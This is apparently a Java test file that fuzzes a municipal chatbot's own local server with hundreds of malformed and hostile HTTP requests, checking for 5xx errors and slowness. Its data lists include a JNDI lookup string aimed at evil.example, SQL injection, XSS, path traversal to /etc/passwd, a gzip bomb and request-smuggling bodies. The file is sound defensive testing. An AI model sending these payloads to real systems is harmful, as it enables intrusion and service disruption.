package nl.selam.bot.system;

import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import io.micronaut.test.support.TestPropertyProvider;
import jakarta.inject.Inject;
import nl.selam.bot.staff.StaffRole;
import nl.selam.bot.support.ConsoleAccounts;
import nl.selam.bot.support.ConsoleSession;
import nl.selam.bot.support.RawHttp;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.IntPredicate;
import java.util.zip.GZIPOutputStream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Issue 10's bad-input corpus: several hundred generated hostile requests against every public endpoint (the
 * resident APIs, the staff API without valid credentials, the console's forms logged out and logged in with a
 * valid CSRF token, the Telegram webhook with the right secret, /health), sent over a raw socket so nothing is
 * cleaned up on the way. None may get a 5xx or take over 2 s, and Selam must answer normally afterwards.
 */
@MicronautTest(transactional = false)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputCorpusTest implements TestPropertyProvider {

    private static final String SECRET = "corpus-secret-0123_abc";
    private static final long BUDGET_MS = 2000;
    private static final String JSON = "Content-Type: application/json";
    private static final String FORM = "Content-Type: application/x-www-form-urlencoded";
    private static final String HTML = "Accept: text/html,application/xhtml+xml,*/*;q=0.8";
    private static final String QUESTION = "Hoe vind ik een huisarts?";

    @Inject
    EmbeddedServer server;

    @Inject
    ConsoleAccounts accounts;

    /** One generated request and the statuses it may get. */
    private record Probe(String family, String what, byte[] request, IntPredicate allowed) {
    }

    @Override
    public Map<String, String> getProperties() {
        // its own database: the logged-in forms may create accounts and drafts that no other test should see;
        // Telegram in webhook mode against a closed port (replies to the few valid updates just retry)
        return Map.of("datasources.default.url", "jdbc:h2:mem:corpus-" + UUID.randomUUID()
                        + ";DB_CLOSE_DELAY=-1;MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;DEFAULT_NULL_ORDERING=HIGH",
                "selam.telegram.token", "111111:corpus-token",
                "selam.telegram.api-url", "http://127.0.0.1:" + closedPort(),
                "selam.telegram.webhook-url", "https://selam.example.org/telegram/webhook",
                "selam.telegram.webhook-secret", SECRET);
    }

    @Test
    void noHostileRequestGetsA5xxOrHangsAndSelamStaysHealthy() {
        RawHttp http = new RawHttp("127.0.0.1", server.getPort());
        List<Probe> corpus = corpus(http);
        warmUp(http);
        long started = System.nanoTime();
        Map<String, Integer> counts = new TreeMap<>();
        Map<String, Integer> perFamily = new TreeMap<>();
        List<String> problems = new ArrayList<>();
        long slowest = 0;
        for (Probe probe : corpus) {
            RawHttp.Response response = http.send(probe.request());
            counts.merge(String.valueOf(response.status()), 1, Integer::sum);
            perFamily.merge(probe.family(), 1, Integer::sum);
            slowest = Math.max(slowest, response.millis());
            if (response.status() >= 500 || response.status() < 100 || !probe.allowed().test(response.status())) {
                problems.add(probe.family() + " / " + probe.what() + " -> " + response.status() + " "
                        + abbreviate(response.body()));
            }
            if (response.millis() > BUDGET_MS) {
                problems.add(probe.family() + " / " + probe.what() + " took " + response.millis() + " ms");
            }
        }
        long seconds = (System.nanoTime() - started) / 1_000_000_000;
        System.out.println("Bad-input corpus: " + corpus.size() + " requests in " + seconds + " s, slowest "
                + slowest + " ms; status counts " + counts + "; per endpoint family " + perFamily);
        assertTrue(corpus.size() >= 500, "at least 500 requests: " + corpus.size());
        assertTrue(problems.isEmpty(), problems.size() + " problems:\n" + String.join("\n", problems));

        RawHttp.Response health = http.send(RawHttp.request("GET", "/health", List.of(), null));
        assertEquals(200, health.status(), health.body());
        RawHttp.Response ask = http.send(RawHttp.request("POST", "/api/ask", List.of(JSON),
                utf8("{\"text\":\"" + QUESTION + "\"}")));
        assertEquals(200, ask.status(), ask.body());
        assertTrue(ask.body().contains("\"topic\":\"zorg.huisarts\""), ask.body());
    }

    // ---------------------------------------------------------------- the corpus

    private List<Probe> corpus(RawHttp http) {
        List<Probe> all = new ArrayList<>();
        String chat = chatCookie(http);
        ConsoleSession admin = new ConsoleSession(server.getURI());
        assertEquals(303, admin.login(accounts.create(StaffRole.BEHEERDER, "nl", "ti").name(),
                ConsoleAccounts.PASSWORD).statusCode());
        String console = admin.cookieHeader();
        String csrf = admin.csrf();

        jsonApis(all, chat);
        chatQueries(all, chat);
        staffApi(all);
        webhook(all);
        consoleForms(all, console, csrf);
        paths(all);
        headers(all, chat, console);
        return all;
    }

    /** /api/ask, /api/chat/messages, /api/chat/language, /api/chat/erase with every bad body and content type. */
    private void jsonApis(List<Probe> all, String chat) {
        for (byte[] body : badJsonBodies()) {
            String what = abbreviate(new String(body, StandardCharsets.UTF_8));
            all.add(probe("ask", what, "POST", "/api/ask", List.of(JSON), body, this::clientError));
            all.add(probe("chat", what, "POST", "/api/chat/messages", List.of(JSON, "Cookie: " + chat), body,
                    this::clientError));
            all.add(probe("webhook", what, "POST", "/telegram/webhook", List.of(JSON, secret()), body,
                    this::clientError));
        }
        for (String text : hostileTexts()) {
            String quoted = jsonString(text);
            all.add(probe("ask", "text " + abbreviate(text), "POST", "/api/ask", List.of(JSON),
                    utf8("{\"text\":" + quoted + "}"), this::anyNon5xx));
            all.add(probe("chat", "text " + abbreviate(text), "POST", "/api/chat/messages",
                    List.of(JSON, "Cookie: " + chat), utf8("{\"id\":\"" + id() + "\",\"text\":" + quoted + "}"),
                    this::anyNon5xx));
            all.add(probe("ask", "language " + abbreviate(text), "POST", "/api/ask", List.of(JSON),
                    utf8("{\"text\":\"" + QUESTION + "\",\"language\":" + quoted + "}"), this::clientError));
            all.add(probe("chat", "language " + abbreviate(text), "PUT", "/api/chat/language",
                    List.of(JSON, "Cookie: " + chat), utf8("{\"language\":" + quoted + "}"), this::clientError));
            all.add(probe("chat", "id " + abbreviate(text), "POST", "/api/chat/messages",
                    List.of(JSON, "Cookie: " + chat), utf8("{\"id\":" + quoted + ",\"text\":\"hallo\"}"),
                    this::anyNon5xx));
        }
        for (String body : List.of("{\"id\":5,\"text\":\"hallo\"}", "{\"id\":\"a\",\"text\":\"x\",\"command\":5}",
                "{\"id\":\"a\",\"command\":\"delete-everything\"}", "{\"id\":\"a\",\"text\":[\"hallo\"]}",
                "{\"language\":[\"nl\"]}", "{\"language\":null}", "{\"confirm\":\"true\"}", "{\"confirm\":1}",
                "{\"confirm\":[true]}", "{\"confirm\":false}")) {
            for (String path : List.of("/api/chat/messages", "/api/chat/language", "/api/chat/erase")) {
                all.add(probe("chat", body, path.endsWith("language") ? "PUT" : "POST", path,
                        List.of(JSON, "Cookie: " + chat), utf8(body), this::clientError));
            }
        }
        // erasing with a session nobody has: answers, erases nothing
        all.add(probe("chat", "erase bogus session", "POST", "/api/chat/erase",
                List.of(JSON, "Cookie: selam_chat=forged.value"), utf8("{\"confirm\":true}"), this::anyNon5xx));
        for (String type : List.of("text/plain", "application/xml", "multipart/form-data; boundary=x",
                "application/x-www-form-urlencoded", "application/json; charset=latin1",
                "application/json; charset=utf-16", "application/json; charset=nonsense", "%%%/%%%", "",
                "application/json, text/html", "*/*")) {
            byte[] body = utf8("{\"id\":\"" + id() + "\",\"text\":\"" + QUESTION + "\"}");
            for (String path : List.of("/api/ask", "/api/chat/messages", "/api/chat/media", "/telegram/webhook")) {
                all.add(probe("content-type", type + " " + path, "POST", path,
                        List.of("Content-Type: " + type, "Cookie: " + chat, secret()), body, this::anyNon5xx));
            }
        }
        byte[] question = utf8("{\"text\":\"" + QUESTION + "\"}");
        for (Object[] coding : new Object[][]{{"gzip", utf8("0123456789")}, {"gzip", new byte[]{0x1f, (byte) 0x8b}},
                {"deflate", utf8("0123456789")}, {"br", question}, {"compress", question}, {"unknown", question},
                {"gzip, gzip", gzip(question)}, {"identity", question}, {"gzip", gzip(utf8("{\"text\":"))},
                {"gzip", gzip(new byte[8 * 1024 * 1024])}}) { // the last one: 8 MB of zeros in 8 KB
            for (String path : List.of("/api/ask", "/api/chat/messages", "/api/chat/media", "/telegram/webhook")) {
                all.add(probe("content-encoding", coding[0] + " " + path, "POST", path, List.of(JSON,
                        "Content-Encoding: " + coding[0], "Cookie: " + chat, secret()), (byte[]) coding[1],
                        this::anyNon5xx));
            }
        }
    }

    private void chatQueries(List<Probe> all, String chat) {
        for (String after : List.of("-1", "abc", "99999999999999999999", "1e9", "%zz", "%00", "1;DROP TABLE x",
                "", "0x10", "９")) {
            for (String cookie : List.of("Cookie: " + chat, "Cookie: selam_chat=%zz", "X-None: 1")) {
                all.add(probe("chat", "after=" + after, "GET", "/api/chat/messages?after=" + after,
                        List.of(cookie), null, this::anyNon5xx));
            }
        }
        // a resident's file: junk ids and sessions find nothing, and never fail
        for (String id : List.of("-1", "abc", "99999999999999999999", "%zz", "1%00", "..%2f1", "1;DROP TABLE x")) {
            for (String cookie : List.of("Cookie: " + chat, "Cookie: selam_chat=%zz", "X-None: 1")) {
                all.add(probe("chat", "media " + id, "GET", "/api/chat/media/" + id, List.of(cookie), null,
                        this::clientError));
            }
        }
        for (String language : List.of("xx", "..%2f..%2fetc", "%zz", "nl%00", "a".repeat(500))) {
            all.add(probe("chat", "texts " + abbreviate(language), "GET", "/api/texts/" + language, List.of(), null,
                    this::anyNon5xx));
        }
    }

    /** The staff API without a valid credential: always a 4xx, whatever the auth scheme becomes. */
    private void staffApi(List<Probe> all) {
        List<String[]> routes = List.of(new String[]{"GET", "/api/staff/escalations"},
                new String[]{"GET", "/api/staff/escalations/1"}, new String[]{"GET", "/api/staff/escalations/abc"},
                new String[]{"POST", "/api/staff/escalations/1/claim"},
                new String[]{"POST", "/api/staff/escalations/1/reply"},
                new String[]{"POST", "/api/staff/escalations/1/release"},
                new String[]{"POST", "/api/staff/escalations/99999999999999999999/resolve"},
                new String[]{"POST", "/api/staff/escalations/1/handover"},
                new String[]{"POST", "/api/staff/accounts"}, new String[]{"GET", "/api/staff/accounts"},
                new String[]{"GET", "/api/staff/outbox/parked"}, new String[]{"POST", "/api/staff/telegram/link-code"},
                new String[]{"GET", "/api/staff/telegram/media/1"});
        List<List<String>> credentials = List.of(List.of(),
                List.of("Authorization: Bearer selam_" + "A".repeat(43), "X-Selam-Staff-Id: 1"),
                List.of("Authorization: Bearer selam_" + "\u00e9".repeat(43)),
                List.of("Authorization: Bearer " + "x".repeat(4000), "X-Selam-Staff-Id: -1"),
                List.of("Authorization: Bearer", "Authorization: Bearer selam_"),
                List.of("Authorization: Bearer junk.junk.junk"),
                List.of("Authorization: Basic YWRtaW46YWRtaW4=", "X-Selam-Staff-Id: 99999999999999999999"));
        byte[] body = utf8("{\"text\":\"hallo\",\"note\":\"x\",\"name\":\"evil\",\"role\":\"BEHEERDER\","
                + "\"languages\":[\"ti\"]}");
        for (String[] route : routes) {
            for (List<String> credential : credentials) {
                List<String> headers = new ArrayList<>(credential);
                headers.add(JSON);
                all.add(probe("staff", route[0] + " " + route[1] + " " + credential, route[0], route[1], headers,
                        route[0].equals("POST") ? body : null, this::clientError));
            }
        }
    }

    private void webhook(List<Probe> all) {
        String message = "{\"message_id\":1,\"date\":1700000000,\"chat\":{\"id\":4242,\"type\":\"private\"},"
                + "\"from\":{\"id\":4242,\"is_bot\":false,\"first_name\":\"R\"},\"text\":\"";
        for (String text : hostileTexts()) {
            String escaped = jsonString(text);
            all.add(probe("webhook", "text " + abbreviate(text), "POST", "/telegram/webhook", List.of(JSON, secret()),
                    utf8("{\"update_id\":" + (10_000 + all.size()) + ",\"message\":" + message.replace(
                            "\"text\":\"", "\"text\":" + escaped).replaceFirst("\\}$", "") + "}}"),
                    this::anyNon5xx));
        }
        for (String body : List.of("null", "[]", "\"x\"", "{}", "{\"update_id\":99999999999}",
                "{\"update_id\":-1}", "{\"update_id\":1.5}", "{\"update_id\":\"1\"}", "{\"update_id\":1,\"message\":[]}",
                "{\"update_id\":1,\"callback_query\":{\"id\":5}}", "{\"update_id\":2,\"callback_query\":{}}",
                "{\"update_id\":3,\"message\":{\"chat\":{}}}", "{\"update_id\":4,\"my_chat_member\":{}}",
                "{\"update_id\":5,\"edited_message\":null}", "{\"update_id\":6,\"message\":" + message + "x\"}}")) {
            all.add(probe("webhook", body, "POST", "/telegram/webhook", List.of(JSON, secret()), utf8(body),
                    this::anyNon5xx));
            all.add(probe("webhook", "no secret " + body, "POST", "/telegram/webhook", List.of(JSON), utf8(body),
                    this::clientError));
        }
    }

    /** The login form logged out, and the console's forms logged in with a valid CSRF token. */
    private void consoleForms(List<Probe> all, String console, String csrf) {
        List<String> undecodable = List.of("%zz", "a%", "%", "%%", "%e0%a4%a", "%u0041");
        List<String> values = new ArrayList<>(undecodable);
        values.addAll(List.of("%C0%AF", "%00", "%ED%A0%80", "&&&", "a=b=c", "%E2%80%AE%E2%80%8B",
                "%F0%9F%98%80%F0%9F%98%80", "x".repeat(70_000)));
        for (String value : values) {
            for (String form : List.of("_csrf=" + value, "username=" + value + "&password=" + value,
                    value + "=" + value)) {
                all.add(probe("console-login", abbreviate(form), "POST", "/console/login", List.of(FORM, HTML),
                        utf8(form), this::anyNon5xx));
            }
        }
        List<String> forms = List.of("/console/testbox|text", "/console/admin/accounts|name",
                "/console/account|current", "/console/faq/new|topic", "/console/faq/zorg.huisarts/nl/preview|answer",
                "/console/admin/outbox/abc/retry|x", "/console/conversations/999999/claim|x",
                "/console/admin/settings|retentionDays", "/console/admin/profile|naam");
        for (String form : forms) {
            String[] parts = form.split("\\|");
            // only undecodable values for the settings and the municipality profile: a value they take would
            // rebuild the answer engine (seconds of legitimate work, not a defence under test)
            boolean changesSettings = parts[0].endsWith("settings") || parts[0].endsWith("profile");
            for (String value : changesSettings ? undecodable : values) {
                String body = "_csrf=" + csrf + "&" + parts[1] + "=" + value + "&role=TOLK&languages=ti";
                all.add(probe("console-form", parts[0] + " " + abbreviate(value), "POST", parts[0],
                        List.of(FORM, HTML, "Cookie: " + console), utf8(body), this::anyNon5xx));
            }
            all.add(probe("console-form", parts[0] + " json", "POST", parts[0],
                    List.of(JSON, HTML, "Cookie: " + console, "X-CSRF-Token: " + csrf), utf8("{\"a\":"),
                    this::anyNon5xx));
            all.add(probe("console-form", parts[0] + " no cookie", "POST", parts[0], List.of(FORM, HTML),
                    utf8("_csrf=%zz&" + parts[1] + "=x"), this::anyNon5xx));
        }
    }

    private void paths(List<Probe> all) {
        for (String path : List.of("/api/../console/admin/accounts", "/%2e%2e/%2e%2e/etc/passwd", "//api//ask",
                "/api/ask/../ask", "/api/ask%00", "/api/ask;jsessionid=x", "/console/..%2fapi/ask", "/console/%zz",
                "/api/%zz", "/%", "/console/admin/accounts/%2e%2e/%2e%2e/", "/console/language/en?back=//evil.example",
                "/console/language/en?back=%zz", "/console/language/%zz", "/ÄPI/ask", "/api\\ask",
                "/health/../console", "/health?%zz=%zz", "/console/assets/..%2f..%2fapplication.yml",
                "/webjars/../application.yml", "/console/assets/%2e%2e/%2e%2e/application.yml",
                "/" + "a/".repeat(3000), "/api/" + "x".repeat(70_000), "/console/faq/" + "%2e".repeat(200),
                "/console/conversations/abc", "/console/conversations/-1", "/api/staff/escalations/%zz",
                "/telegram/webhook/../webhook", "/api/chat/messages?after=%zz&after=1", "/?" + "a=b&".repeat(5000))) {
            all.add(probe("path", abbreviate(path), "GET", path, List.of(HTML), null, this::anyNon5xx));
        }
        for (String method : List.of("FOO", "TRACE", "OPTIONS", "DELETE", "PATCH", "get")) {
            all.add(probe("path", method + " /api/ask", method, "/api/ask", List.of(JSON), utf8("{}"),
                    this::anyNon5xx));
        }
    }

    private void headers(List<Probe> all, String chat, String console) {
        byte[] question = utf8("{\"text\":\"" + QUESTION + "\"}");
        List<List<String>> abuse = List.of(
                List.of("X-Big: " + "a".repeat(100_000)),
                many("X-Many-", 500),
                List.of(JSON, "Content-Length: " + question.length, "Content-Length: " + question.length),
                List.of(JSON, "Content-Length: " + question.length, "Content-Length: 3"),
                List.of(JSON, "Content-Length: -5"),
                List.of(JSON, "Content-Length: abc"),
                List.of(JSON, "Transfer-Encoding: gzip"),
                List.of(JSON, "Accept: */*;q=abc"), List.of(JSON, "Accept: text/html;;;"),
                List.of(JSON, "Accept: " + "x/y,".repeat(2000)), List.of(JSON, "Accept: application/xml"),
                List.of(JSON, "Accept-Language: xx-;;;q=2"), List.of(JSON, "Accept-Language: ar-SA-u-nu-arab"),
                List.of(JSON, "Accept-Language: " + "nl,".repeat(3000)),
                List.of(JSON, "Cookie: " + "\u0001\u0002;=;;=="), List.of(JSON, "Cookie: JWT=garbage"),
                List.of(JSON, "Cookie: JWT=a.b.c; selam_chat=a.b.c"),
                List.of(JSON, "Cookie: selam_console_lang=<script>"),
                List.of(JSON, "Cookie: " + "a=b; ".repeat(2000)),
                List.of(JSON, "Host: "), List.of(JSON, "Host: evil.example:99999"),
                List.of(JSON, "X-Forwarded-For: ../../../"), List.of(JSON, "Expect: 100-continue"),
                List.of(JSON, "Expect: nonsense"), List.of(JSON, "X-Folded: a", " folded continuation"),
                List.of(JSON, "Bad Header Name: x"), List.of(JSON, "X-Utf8: ሰላም سلام"),
                List.of(JSON, "Origin: https://evil.example"), List.of(JSON, "Origin: null"));
        for (List<String> headers : abuse) {
            String what = abbreviate(String.join(" | ", headers));
            all.add(probe("headers", "ask " + what, "POST", "/api/ask", headers, question, this::anyNon5xx));
            List<String> withChat = new ArrayList<>(headers);
            withChat.add("Cookie: " + chat);
            all.add(probe("headers", "chat " + what, "GET", "/api/chat/messages", withChat, null, this::anyNon5xx));
            List<String> withConsole = new ArrayList<>(headers);
            withConsole.add("Cookie: " + console);
            all.add(probe("headers", "console " + what, "GET", "/console/queue", withConsole, null,
                    this::anyNon5xx));
            all.add(probe("health", what, "GET", "/health", headers, null, this::anyNon5xx));
        }
        // chunked bodies that lie about their sizes, and Content-Length beside chunked (request smuggling)
        String whole = Integer.toHexString(question.length) + "\r\n" + new String(question, StandardCharsets.UTF_8)
                + "\r\n0\r\n\r\n";
        for (String chunked : List.of("5\r\nabc\r\n0\r\n\r\n", "zz\r\nabc\r\n0\r\n\r\n", "-1\r\n\r\n",
                "ffffffffffffffff\r\nabc\r\n0\r\n\r\n", whole)) {
            for (String extra : List.of("X-None: 1", "Content-Length: 3", "Transfer-Encoding: identity")) {
                all.add(probe("headers", "chunked " + extra + " " + abbreviate(chunked), "POST", "/api/ask",
                        List.of(JSON, "Transfer-Encoding: chunked", extra), utf8(chunked), this::anyNon5xx));
            }
        }
    }

    /** The first call of each kind loads classes and compiles code; the 2 s budget is for a running service. */
    private static void warmUp(RawHttp http) {
        byte[] question = utf8("{\"text\":\"" + QUESTION + "\"}");
        for (int i = 0; i < 3; i++) {
            http.send(RawHttp.request("POST", "/api/ask", List.of(JSON), question));
            http.send(RawHttp.request("POST", "/telegram/webhook", List.of(JSON, secret()), utf8("null")));
            http.send(RawHttp.request("POST", "/api/ask", List.of(JSON, "Content-Encoding: gzip"), question));
            http.send(RawHttp.request("POST", "/console/login", List.of(FORM, HTML), utf8("_csrf=%zz")));
            http.send(RawHttp.request("GET", "/health", List.of(), null));
            // long texts take the engine's long-word paths: cold about 1.5 s once, then tens of milliseconds
            http.send(RawHttp.request("POST", "/api/ask", List.of(JSON), utf8("{\"text\":\"" + "ab ".repeat(1000)
                    + "\"}")));
            http.send(RawHttp.request("POST", "/api/ask", List.of(JSON), utf8("{\"text\":\"" + "o\u0308".repeat(900)
                    + "\"}")));
        }
    }

    // ---------------------------------------------------------------- building blocks

    /** Bodies that are not acceptable JSON objects for any of the JSON endpoints. */
    private static List<byte[]> badJsonBodies() {
        List<byte[]> bodies = new ArrayList<>();
        for (String body : List.of("", " ", "null", "true", "0", "-1e999", "\"text\"", "[]", "[{\"text\":\"hi\"}]",
                "{", "}", "{\"text\":", "{\"text\":\"hi\"", "{\"text\":\"hi\"}}", "{\"text\":\"hi\"} trailing",
                "{'text':'hi'}", "{text:\"hi\"}", "{\"text\":\"hi\",}", "{\"text\":\"a\",\"text\":\"b\"}",
                "{\"text\":NaN}", "{\"text\":1e999}", "{\"text\":12}", "{\"text\":true}", "{\"text\":null}",
                "{\"text\":[\"hi\"]}", "{\"text\":{\"a\":\"hi\"}}", "{\"text\":\"\"}", "{\"text\":\"   \"}",
                "{/*c*/\"text\":\"hi\"}", "{\"text\":\"\\ud800\"}", "{\"text\":\"\\u0000\"}",
                "{\"text\":\"\\uZZZZ\"}", "{\"text\":\"a\\qb\"}", "\uFEFF{\"text\":\"hi\"}", "{\"update_id\":\"x\"}",
                "{\"text\":\"" + "x".repeat(70_000) + "\"}", "{\"text\":\"" + "x".repeat(4_001) + "\"}",
                "[".repeat(10_000) + "]".repeat(10_000), "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000),
                "{\"text\":\"hi\",\"language\":[\"nl\"]}", "{\"text\":\"hi\",\"language\":\"xx\"}",
                "{\"text\":\"hi\",\"language\":\"am\"}", "{\"" + "k".repeat(30_000) + "\":1}")) {
            bodies.add(utf8(body));
        }
        // invalid UTF-8: a lone continuation byte, an overlong slash, an encoded surrogate, 0xFF, a cut sequence
        for (byte[] bad : new byte[][]{{(byte) 0x80}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0,
                (byte) 0x80}, {(byte) 0xFF, (byte) 0xFE}, {(byte) 0xE1, (byte) 0x88}}) {
            ByteArrayOutputStream body = new ByteArrayOutputStream();
            body.writeBytes(utf8("{\"text\":\"hoe "));
            body.writeBytes(bad);
            body.writeBytes(utf8(" huisarts\"}"));
            bodies.add(body.toByteArray());
        }
        bodies.add(new byte[]{0x00, 0x00, 0x00});
        return bodies;
    }

    /** Texts a hostile or confused resident might send, to be put inside otherwise valid JSON. */
    private static List<String> hostileTexts() {
        return List.of("😀😀😀", "🇪🇷🇸🇩🙏", "\u202Ehuisarts\u202C", "\u200B\u200C\u200D\uFEFF",
                "\u200B" + QUESTION + "\u200D", "\u0000\u0007\u001B[31m", "hoe\u0008\u0008 huisarts", "\u2028\u2029",
                "\u0661\u0662\u0663", "ﬁ ㎏ Ⅻ", "a\u0301".repeat(1000), "<script>alert(1)</script>",
                "' OR 1=1 --", "${jndi:ldap://evil.example/a}", "%s%n%x", "../../etc/passwd", "{{7*7}}[[${7*7}]]",
                "ሰላም \u200F እንታይ", "سلام\u061C عليكم", "x".repeat(4_000), "x".repeat(4_001),
                "\uD83D", "\uDC00abc", "/start " + "a".repeat(300), "/vergeet", " ", "\t\n");
    }

    private Probe probe(String family, String what, String method, String path, List<String> headers, byte[] body,
                        IntPredicate allowed) {
        return new Probe(family, method + " " + abbreviate(path) + " " + what,
                RawHttp.request(method, path, headers, body), allowed);
    }

    private boolean anyNon5xx(int status) {
        return status < 500;
    }

    private boolean clientError(int status) {
        return status >= 400 && status < 500;
    }

    private String chatCookie(RawHttp http) {
        RawHttp.Response first = http.send(RawHttp.request("POST", "/api/chat/messages", List.of(JSON),
                utf8("{\"id\":\"" + id() + "\",\"text\":\"" + QUESTION + "\"}")));
        assertEquals(202, first.status(), first.body());
        String cookie = first.header("Set-Cookie");
        return cookie.substring(0, cookie.indexOf(';'));
    }

    private static String secret() {
        return "X-Telegram-Bot-Api-Secret-Token: " + SECRET;
    }

    private static List<String> many(String prefix, int count) {
        List<String> headers = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            headers.add(prefix + i + ": v");
        }
        return headers;
    }

    private static String id() {
        return UUID.randomUUID().toString().replace("-", "");
    }

    // JSON string syntax by hand: lone surrogates and control characters must go out as escapes, as an attacker
    // would write them, not be repaired by a library
    private static String jsonString(String text) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || Character.isSurrogate(c) && !validPair(text, c)) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    private static boolean validPair(String text, char c) {
        int i = text.indexOf(c);
        return Character.isHighSurrogate(c) ? i + 1 < text.length() && Character.isLowSurrogate(text.charAt(i + 1))
                : i > 0 && Character.isHighSurrogate(text.charAt(i - 1));
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] gzip(byte[] data) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream zip = new GZIPOutputStream(out)) {
            zip.write(data);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static String abbreviate(String text) {
        String flat = text.replaceAll("[\\p{Cntrl}]", "?");
        return flat.length() > 80 ? flat.substring(0, 80) + "…(" + flat.length() + ")" : flat;
    }

    private static int closedPort() {
        try (ServerSocket socket = new ServerSocket(0)) {
            return socket.getLocalPort();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
